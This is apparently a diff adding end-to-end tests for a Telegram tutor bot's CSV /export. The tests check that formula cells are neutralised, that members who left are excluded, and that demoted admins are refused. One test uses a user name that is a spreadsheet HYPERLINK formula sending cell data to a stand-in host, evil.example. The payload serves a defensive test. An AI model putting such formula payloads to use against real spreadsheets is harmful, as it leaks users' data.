@@ -3,17 +3,20 @@ the deep link where the bot cannot write to an admin, and what anyone else gets.
 
 from __future__ import annotations
 
+import asyncio
 import csv
 import io
+import time
 from collections.abc import AsyncIterator
 from datetime import UTC, datetime
+from typing import Any
 
 import pytest
 
 from playground.botapi import BotApiStandin, Chat, ChatMessage, UserHandle
 from tests.e2e.conftest import TOKEN, FakeClock, RunningBot, rows
 from tests.e2e.test_classroom import TIME_SCALE, answer, next_poll
-from tutor.store import ClassMemory, Database, PollVote, ReportNotice
+from tutor.store import ClassMemory, Database, LeftMember, PollVote, ReportNotice
 
 GROUP_ID = -1009876543210
 LINK = "https://t.me/lr_tutor_bot?start=reports"
@@ -307,3 +310,108 @@ async def test_bad_input_gets_a_short_reply_and_nothing_is_sent_elsewhere(
     assert private_sends(server, teacher.id) == []
     assert private_sends(server, bob.id) == ["sendMessage"]  # the reply to his own /export
     assert server.requests("sendDocument") == [] and server.requests("sendPhoto") == []
+
+
+async def wait_for_rows(store: Database, table: Any, count: int, **where: Any) -> None:
+    """Until the store holds ``count`` such rows (what an update's handler wrote)."""
+    for _ in range(200):
+        if len(await rows(store, table, **where)) == count:
+            return
+        await asyncio.sleep(0.05)
+    raise AssertionError(f"{table.__name__}: never {count} rows")
+
+
+async def test_the_export_runs_no_formula_leaves_out_who_left_and_stops_once_demoted(
+    server: BotApiStandin, running_bot: RunningBot, store: Database, teacher: UserHandle
+) -> None:
+    names = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+Bob", "-Carol", "@Dave"]
+    members = [server.user(6001 + n, name) for n, name in enumerate(names)]
+    group = server.group(GROUP_ID, "ML 101", members=members, admins=[teacher])
+    dave = members[3]
+    async with running_bot():
+        await play(teacher, group, members, [[True, False, True, False]])
+
+        # Dave leaves the group: Telegram's service message tells the bot.
+        group.set_status(dave, "left")
+        server.inject(
+            "message",
+            {
+                "message_id": 10_000, "date": int(time.time()), "chat": group.api(),
+                "from": dave.info.api(), "left_chat_member": dave.info.api(),
+            },
+            chat=group,
+        )  # fmt: skip
+        await wait_for_rows(store, LeftMember, 1, chat_id=GROUP_ID, learner_id=dave.id)
+
+        await teacher.send("/export", chat=group)
+        document = await teacher.wait_for_message(lambda m: m.document is not None)
+        assert document.document is not None
+        table = list(csv.reader(io.StringIO(document.document.decode("utf-8-sig"))))
+        cells = [cell for row in table for cell in row]
+        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+        # Each name as typed behind one quote; Dave, who left, is not there.
+        assert sorted(row[6] for row in table[1:]) == sorted("'" + n for n in names[:3])
+        assert document.caption == "Every answer in ML 101: 3 answers, times in UTC."
+
+        # Demoted: the next /export is refused at once (Telegram is asked afresh).
+        group.set_status(teacher, "member")
+        await teacher.send("/export", chat=group)
+        refusal = await teacher.wait_for_message(
+            lambda m: "Only the chat's admins" in (m.text or ""), chat=group
+        )
+        assert refusal.text == (
+            "Only the chat's admins can export the class's answers; it goes to them in private."
+        )
+        await server.settle()
+    assert len(server.requests("sendDocument")) == 1
+
+
+async def test_a_member_removed_is_out_of_the_export_until_they_join_again(
+    server: BotApiStandin,
+    running_bot: RunningBot,
+    store: Database,
+    teacher: UserHandle,
+    members: list[UserHandle],
+    group: Chat,
+) -> None:
+    carol = members[1]
+
+    async def exported_names() -> list[str]:
+        before = teacher.chat.last_message
+        await teacher.send("/export", chat=group)
+        document = await teacher.wait_for_message(
+            lambda m: m.document is not None and m is not before
+        )
+        assert document.document is not None
+        table = list(csv.reader(io.StringIO(document.document.decode("utf-8-sig"))))
+        return sorted(row[6] for row in table[1:])
+
+    async with running_bot():
+        await play(teacher, group, members, [[True, False, True]])
+        # Removed by an admin: where the bot is an admin, Telegram sends a chat_member update.
+        group.set_status(carol, "kicked")
+        server.inject(
+            "chat_member",
+            {
+                "chat": group.api(), "from": teacher.info.api(), "date": int(time.time()),
+                "old_chat_member": {"status": "member", "user": carol.info.api()},
+                "new_chat_member": {"status": "kicked", "user": carol.info.api(),
+                                    "until_date": 0},
+            },
+            chat=group,
+        )  # fmt: skip
+        await wait_for_rows(store, LeftMember, 1, chat_id=GROUP_ID)
+        assert await exported_names() == ["Bob", "Dave"]
+
+        # Added back: the service message says so, and her answers count again.
+        group.set_status(carol, "member")
+        server.inject(
+            "message",
+            {
+                "message_id": 10_001, "date": int(time.time()), "chat": group.api(),
+                "from": teacher.info.api(), "new_chat_members": [carol.info.api()],
+            },
+            chat=group,
+        )  # fmt: skip
+        await wait_for_rows(store, LeftMember, 0, chat_id=GROUP_ID)
+        assert await exported_names() == ["Bob", "Carol", "Dave"]
